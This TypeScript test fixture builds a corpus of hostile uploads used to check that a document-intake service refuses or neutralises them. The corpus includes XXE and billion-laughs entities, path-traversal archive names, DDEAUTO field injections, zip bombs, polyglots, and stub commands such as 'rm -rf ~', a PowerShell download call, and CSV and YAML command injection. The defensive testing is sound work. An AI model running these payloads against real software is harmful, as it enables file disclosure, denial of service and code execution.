import {
  paragraph,
  pdfFile,
  pngFile,
  relationship,
  relationships,
  wordEntries,
  wordFile,
  zipOf,
} from '../../support/files'

/** A file that somebody means harm with. */
export interface Hostile {
  readonly name: string
  readonly bytes: Buffer
  /**
   * `refused`: it is never taken in. `no-template`: it may be kept and shown as inert pieces, and never becomes a template.
   * Otherwise the kind it is taken for, by its first bytes and nothing else.
   */
  readonly fate: 'refused' | 'no-template' | 'pdf' | 'png'
}

const withPart = (name: string, content: string | Buffer, says = {}) =>
  zipOf(wordEntries({ more: [{ name, content, says }] }))

const parts = [
  'word/document2.xml',
  'word/header1.xml',
  'word/footer1.xml',
  'word/styles.xml',
  'word/settings.xml',
  'word/numbering.xml',
  'word/footnotes.xml',
  'word/comments.xml',
  'word/theme/theme1.xml',
  'customXml/item1.xml',
  'docProps/core.xml',
  'word/_rels/header1.xml.rels',
] as const

const climbing = [
  '../a.xml',
  '../../a.xml',
  'word/../../a.xml',
  'word/../../../../../../etc/passwd',
  '..\\a.xml',
  'word\\..\\..\\a.xml',
  '/etc/cron.d/a',
  '//server/a.xml',
  '\\\\server\\share\\a.xml',
  'C:/Windows/a.xml',
  'C:\\Windows\\a.xml',
  'word/./a.xml',
  './a.xml',
  'word/a.xml:strom',
  'word/a\u0000.xml',
  'word/a\u030a.xml',
  '..',
  '.',
  `word/${'a'.repeat(300)}.xml`,
] as const

const expanding = (levels: number) =>
  `<!DOCTYPE a [<!ENTITY l0 "ha">${Array.from({ length: levels }, (_none, no) => `<!ENTITY l${no + 1} "${`&l${no};`.repeat(10)}">`).join('')}]><a>&l${levels};</a>`

const xmlAttacks = {
  'billion laughs': expanding(9),
  'quadratic growth': `<!DOCTYPE a [<!ENTITY x "${'a'.repeat(50_000)}">]><a>${'&x;'.repeat(1_000)}</a>`,
  'file entity': '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  'network entity': '<!DOCTYPE a [<!ENTITY x SYSTEM "http://192.0.2.7/a">]><a>&x;</a>',
  'parameter entity': '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://192.0.2.7/a.dtd"> %x;]><a/>',
  'foreign document type': '<!DOCTYPE a SYSTEM "http://192.0.2.7/a.dtd"><a/>',
  'public document type': '<!doctype a PUBLIC "-//X//Y" "http://192.0.2.7/a.dtd"><a/>',
} as const

const encodings = {
  'in UTF-8': (text: string) => Buffer.from(text, 'utf8'),
  'in UTF-16': (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le'),
  'in UTF-16, the other way': (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le').swap16(),
} as const

const external = [
  'attachedTemplate',
  'image',
  'oleObject',
  'frame',
  'subDocument',
  'aFChunk',
  'package',
  'control',
  'video',
  'audio',
  'externalLink',
  'mailMergeSource',
]
const relationParts = ['word/_rels/document.xml.rels', 'word/_rels/settings.xml.rels', 'word/_rels/header1.xml.rels']
const targets = ['https://example.com/a.dotm', 'file:////192.0.2.7/a', '\\\\192.0.2.7\\a']

const fields = [
  'DDE',
  'DDEAUTO',
  'INCLUDETEXT',
  'INCLUDEPICTURE',
  'IMPORT',
  'LINK',
  'DATABASE',
  'MACROBUTTON',
  'AUTOTEXT',
  'ddeauto',
] as const
const fieldForms = {
  plain: (code: string) => `<w:p><w:r><w:instrText>${code} c:\\\\a</w:instrText></w:r></w:p>`,
  'cut in two': (code: string) =>
    `<w:p><w:r><w:instrText>${code.slice(0, 2)}</w:instrText></w:r><w:r><w:instrText>${code.slice(2)} c</w:instrText></w:r></w:p>`,
  simple: (code: string) => `<w:p><w:fldSimple w:instr=" ${code} a.docx "/></w:p>`,
  preserved: (code: string) => `<w:p><w:r><w:instrText xml:space="preserve"> ${code} a </w:instrText></w:r></w:p>`,
} as const

const objects = [
  'word/embeddings/oleObject1.bin',
  'word/embeddings/Microsoft_Excel_Sheet.xlsx',
  'word/embeddings/a.zip',
  'word/embeddings/a.exe',
  'word/activeX/activeX1.xml',
  'word/activeX/activeX1.bin',
  'WORD/EMBEDDINGS/a.bin',
] as const

const macros = [
  'word/vbaProject.bin',
  'word/vbaData.xml',
  'word/VBAPROJECT.BIN',
  'vbaProject.bin',
  'word/_rels/vbaProject.bin.rels',
] as const
const macroTypes = [
  'document.macroEnabled.main+xml',
  'template.macroEnabledTemplate.main+xml',
  'template.main+xml',
  'sheet.main+xml',
  'presentation.main+xml',
] as const

/** First bytes of kinds that are never taken in. */
const strangers: Readonly<Record<string, string>> = {
  'Windows program': 'MZ\u0090\u0000\u0003',
  'Linux program': '\u007fELF\u0002\u0001\u0001',
  'Mac program': '\u00cf\u00fa\u00ed\u00fe',
  'shell script': '#!/bin/sh\nrm -rf ~\n',
  'batch file': '@echo off\r\ndel /q *\r\n',
  PowerShell: 'Invoke-Expression (New-Object Net.WebClient)',
  'Visual Basic': 'CreateObject("WScript.Shell").Run "calc"',
  JavaScript: 'new ActiveXObject("WScript.Shell")',
  'web page': '<!doctype html><script>1</script>',
  'web archive': 'MIME-Version: 1.0\r\nContent-Type: multipart/related',
  'HTML application': '<hta:application/><script>1</script>',
  drawing: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'style sheet with script': '<?xml version="1.0"?><?xml-stylesheet href="a.xsl"?><a/>',
  'rich text': '{\\rtf1\\ansi{\\object\\objautlink}}',
  'old Office': '\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1',
  shortcut: 'L\u0000\u0000\u0000\u0001\u0014\u0002\u0000',
  'internet shortcut': '[InternetShortcut]\r\nURL=file://192.0.2.7/a\r\n',
  'settings of a folder': '[.ShellClassInfo]\r\nIconResource=\\\\192.0.2.7\\a',
  'disk image': '\u0000'.repeat(512),
  '7-zip': '7z\u00bc\u00af\u0027\u001c',
  RAR: 'Rar!\u001a\u0007\u0001\u0000',
  gzip: '\u001f\u008b\u0008\u0000',
  cabinet: 'MSCF\u0000\u0000\u0000\u0000',
  bzip2: 'BZh91AY&SY',
  xz: '\u00fd7zXZ\u0000',
  tar: `a${'\u0000'.repeat(256)}ustar`,
  'Java class': '\u00ca\u00fe\u00ba\u00be\u0000\u0000\u00004',
  'Windows help': 'ITSF\u0003\u0000\u0000\u0000',
  Flash: 'CWS\u0008',
  PostScript: '%!PS-Adobe-3.0',
  'encapsulated PostScript': '\u00c5\u00d0\u00d3\u00c6',
  GIF: 'GIF89a/*<script>*/',
  bitmap: 'BM\u0000\u0000\u0000\u0000',
  TIFF: 'II*\u0000\u0008\u0000\u0000\u0000',
  icon: '\u0000\u0000\u0001\u0000\u0001\u0000',
  'Windows picture': '\u00d7\u00cd\u00c6\u009a\u0000\u0000',
  AVIF: '\u0000\u0000\u0000\u001cftypavif',
  MP4: '\u0000\u0000\u0000\u0018ftypmp42',
  font: '\u0000\u0001\u0000\u0000\u0000\u000c',
  'web font': 'wOFF\u0000\u0001\u0000\u0000',
  SQLite: 'SQLite format 3\u0000',
  'spreadsheet as text': '=cmd|\u0027 /C calc\u0027!A0,1\r\n',
  calendar: 'BEGIN:VCALENDAR\r\nATTACH:file:///etc/passwd',
  mail: 'Return-Path: <a@example.com>\r\nSubject: a\r\n',
  JSON: '{"__proto__":{"isAdmin":true}}',
  YAML: '!!python/object/apply:os.system ["a"]',
  'one byte': 'P',
  'two bytes of a zip': 'PK',
  'half a head of a PDF': '%PD',
  'half a head of a picture': '\u0089PNG\r\n',
}

const png = pngFile()
const pdf = pdfFile('Hej')
const word = wordFile()

/** Files that are two things at once. */
const polyglots: readonly Hostile[] = [
  { name: 'a PDF with a Word document behind it', bytes: Buffer.concat([pdf, word]), fate: 'pdf' },
  { name: 'a picture with a Word document behind it', bytes: Buffer.concat([png, word]), fate: 'png' },
  {
    name: 'a picture with a web page behind it',
    bytes: Buffer.concat([png, Buffer.from('<script>1</script>')]),
    fate: 'png',
  },
  {
    name: 'a picture with a program behind it',
    bytes: Buffer.concat([png, Buffer.from('MZ\u0090\u0000', 'latin1')]),
    fate: 'png',
  },
  {
    name: 'a program with a Word document behind it',
    bytes: Buffer.concat([Buffer.from('MZ\u0090\u0000', 'latin1'), word]),
    fate: 'refused',
  },
  { name: 'a web page with a PDF behind it', bytes: Buffer.concat([Buffer.from('<html>'), pdf]), fate: 'refused' },
  { name: 'a GIF with a PDF behind it', bytes: Buffer.concat([Buffer.from('GIF89a', 'latin1'), pdf]), fate: 'refused' },
  {
    name: 'a script with a Word document behind it',
    bytes: Buffer.concat([Buffer.from('#!/bin/sh\n'), word]),
    fate: 'refused',
  },
  { name: 'a blank before a PDF', bytes: Buffer.concat([Buffer.from('\n'), pdf]), fate: 'refused' },
  { name: 'a mark of order before a PDF', bytes: Buffer.concat([Buffer.from('\ufeff'), pdf]), fate: 'refused' },
]

const big = Buffer.alloc(3 * 1024 * 1024, 'a')
const many = (count: number, content: Buffer | string) =>
  Array.from({ length: count }, (_none, no) => ({ name: `word/media/${no}.xml`, content }))

const bombs: readonly Hostile[] = [
  ...parts.map((part) => ({
    name: `a bomb by ratio in ${part}`,
    bytes: withPart(part, big),
    fate: 'refused' as const,
  })),
  ...[1, 10, 1_000, 65_535].map((unpacked) => ({
    name: `a bomb that says it is ${unpacked} bytes`,
    bytes: withPart('word/a.xml', big, { unpacked }),
    fate: 'refused' as const,
  })),
  {
    name: 'a bomb that says it is four gigabytes',
    bytes: withPart('word/a.xml', 'x', { unpacked: 0xffffffff }),
    fate: 'refused',
  },
  { name: 'a bomb by number', bytes: zipOf(wordEntries({ more: many(3_100, '') })), fate: 'refused' },
  {
    name: 'a bomb by sum',
    bytes: zipOf(wordEntries({ more: many(150, Buffer.alloc(1_000_000, 'a')) })),
    fate: 'refused',
  },
  {
    name: 'nesting without end',
    bytes: wordFile({ body: `${'<w:p>'.repeat(50_000)}${'</w:p>'.repeat(50_000)}` }),
    fate: 'refused',
  },
  { name: 'a picture as large as a town', bytes: pngFile(10, 30_000, 30_000), fate: 'refused' },
  { name: 'a picture of no width', bytes: pngFile(10, 10, 0), fate: 'refused' },
]

/** The corpus: what is known to be tried against programs that take in documents. */
export const corpus = (): Hostile[] => [
  ...climbing.map((name) => ({
    name: `a name that climbs out: ${JSON.stringify(name).slice(0, 60)}`,
    bytes: withPart(name, '<a/>'),
    fate: 'refused' as const,
  })),
  ...[0o120777, 0o120644].flatMap((mode) =>
    ['word/a.xml', 'word/media/a.png', 'a'].map((name) => ({
      name: `a link to another file as ${name}`,
      bytes: withPart(name, '/etc/passwd', { mode }),
      fate: 'refused' as const,
    })),
  ),
  ...['word/document.xml', 'WORD/DOCUMENT.XML', '[content_types].xml', '_rels/.RELS'].map((name) => ({
    name: `the same part twice: ${name}`,
    bytes: withPart(name, '<a/>'),
    fate: 'refused' as const,
  })),
  ...[1, 9, 0x41].map((flags) => ({
    name: `a part with a password, ${flags}`,
    bytes: withPart('word/a.xml', '<a/>', { flags }),
    fate: 'refused' as const,
  })),
  ...Object.entries(xmlAttacks).flatMap(([what, xml]) =>
    Object.entries(encodings).flatMap(([how, encode]) =>
      parts.slice(0, 4).map((part) => ({
        name: `${what} ${how} in ${part}`,
        bytes: withPart(part, encode(xml)),
        fate: 'refused' as const,
      })),
    ),
  ),
  ...external.flatMap((kind) =>
    relationParts.map((part, index) => ({
      name: `${kind} from elsewhere in ${part}`,
      bytes: withPart(part, relationships(relationship(kind, targets[index % targets.length] ?? '', true))),
      fate: 'no-template' as const,
    })),
  ),
  ...fields.flatMap((code) =>
    Object.entries(fieldForms).map(([how, form]) => ({
      name: `a field ${code}, ${how}`,
      bytes: wordFile({ body: form(code) }),
      fate: 'no-template' as const,
    })),
  ),
  ...['word/header1.xml', 'word/footer1.xml', 'word/footnotes.xml'].map((part) => ({
    name: `a field in ${part}`,
    bytes: withPart(part, `<w:hdr>${fieldForms.plain('DDEAUTO')}</w:hdr>`),
    fate: 'no-template' as const,
  })),
  ...objects.map((name) => ({ name: `an object: ${name}`, bytes: withPart(name, 'x'), fate: 'no-template' as const })),
  ...macros.map((name) => ({
    name: `a macro: ${name}`,
    bytes: withPart(name, 'x'),
    fate: name.endsWith('.rels') || name.endsWith('.xml') ? ('no-template' as const) : ('refused' as const),
  })),
  ...macroTypes.map((mainType) => ({
    name: `a package of the type ${mainType}`,
    bytes: zipOf(wordEntries({ mainType })),
    fate: 'refused' as const,
  })),
  ...['{@rubrik}', '{=[[ ]]=}', '{#a}', '{/a}', '{#a}{/b}', '{a', '{{a}}', '{#a}{@b}{/a}'].map((mark) => ({
    name: `a mark that is more than a field: ${mark}`,
    bytes: wordFile({ body: paragraph(mark) }),
    fate: 'no-template' as const,
  })),
  ...Object.entries(strangers).map(([name, head]) => ({
    name,
    bytes: Buffer.from(head, 'latin1'),
    fate: 'refused' as const,
  })),
  { name: 'nothing at all', bytes: Buffer.alloc(0), fate: 'refused' },
  { name: 'a document too large', bytes: Buffer.concat([pdf, Buffer.alloc(25 * 1024 * 1024)]), fate: 'refused' },
  {
    name: 'a PDF with a password',
    bytes: Buffer.from(pdf.toString('latin1').replace('/Root', '/Encrypt 9 0 R /Root'), 'latin1'),
    fate: 'refused',
  },
  { name: 'a PDF cut off', bytes: pdf.subarray(0, 200), fate: 'refused' },
  { name: 'a Word document cut off', bytes: word.subarray(0, 600), fate: 'refused' },
  { name: 'a picture cut off', bytes: png.subarray(0, 18), fate: 'refused' },
  ...bombs,
  ...polyglots,
]
